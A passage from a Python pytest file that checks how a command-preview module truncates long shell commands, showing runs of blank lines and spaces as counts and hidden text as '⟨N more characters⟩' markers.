    line = "a" * (limit + 1)
    room = limit - len("⟨500,001 more characters⟩") - 2
    head, tail = room // 2, room - room // 2
    assert texts(command_view(line, ".")[1], "command") == [
        f"{'a' * head} ⟨{limit + 1 - room:,} more characters⟩ {'a' * tail}"]


@pytest.mark.parametrize("command", ["a\n\n\n\nb", "echo hi\n\n\n\n\n\nrm x" + " " * 20 + "y", "\n\n\nx", "a\n \n\t\n \nb"])
def test_the_pieces_of_a_summary_stand_for_every_character_of_the_command(command):
    """What a summary's pieces cover is exact: their raw characters add up to the command,
    from either end (a count of blank lines stands for the lines and the breaks between)."""
    parts = command.split("\n")
    forwards = list(preview._summary_pieces(parts, 10_000))
    backwards = list(preview._summary_pieces(parts, 10_000, backwards=True))
    assert sum(len(p.raw) for p in forwards) == sum(len(p.raw) for p in backwards) == len(command)
    if "\t" not in command:  # blank lines of nothing: the very characters, in order
        assert "".join(p.raw for p in forwards) == "".join(p.raw for p in reversed(backwards)) == command
    assert preview._half(iter(forwards), 10_000, tail=False)[:3] == (preview._half(iter(backwards), 10_000, tail=True)[0],
                                                                  len(command), True)


def test_the_tail_of_a_long_line_shows_a_run_as_a_count_as_the_head_does():
    """The tail looked only as far as its own budget for runs, so a run near the end showed
    as raw blanks (the count hidden in ⟨N more characters⟩) where the head showed a count."""
    assert preview.command_line("cd" + " " * 20 + "a" * 100 + "echo", 53) == \
        ("cd⟨20 spaces⟩aa ⟨87 more characters⟩ aaaaaaaaaaaecho", True, True)
    assert preview.command_line("echo " + "a" * 100 + " " * 20 + "cd", 53) == \
        ("echo aaaaaaaaaa ⟨88 more characters⟩ aa⟨20 spaces⟩cd", True, True)
